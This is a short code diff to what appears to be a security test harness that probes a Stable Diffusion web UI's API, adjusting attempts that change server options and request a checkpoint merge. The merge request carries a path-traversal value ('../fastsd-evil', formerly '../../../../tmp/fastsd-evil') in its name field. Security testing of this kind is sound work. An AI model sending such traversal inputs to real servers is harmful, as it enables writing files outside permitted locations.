@@ -240,6 +240,7 @@ def attempts(v: Visitor, listener: str, secret: Path, data: Path) -> Iterator[tu
                 },
             )
             now = json.loads(v.raw("/sdapi/v1/options")[1]).get(key)
+            v.post("/sdapi/v1/options", {key: before})
             return f"{key} is {now!r}" if now != before else ""
 
         return attempt
@@ -297,8 +298,8 @@ def attempts(v: Visitor, listener: str, secret: Path, data: Path) -> Iterator[tu
         return act
 
     merge = {
-        "Primary model (A)": "tiny.safetensors",
-        "Custom Name (Optional)": "../../../../tmp/fastsd-evil",
+        "Primary model (A)": json.loads(v.raw("/sdapi/v1/sd-models")[1])[0]["title"],
+        "Custom Name (Optional)": "../fastsd-evil",
         "Interpolation Method": "No interpolation",
         "Checkpoint format": "safetensors",
     }
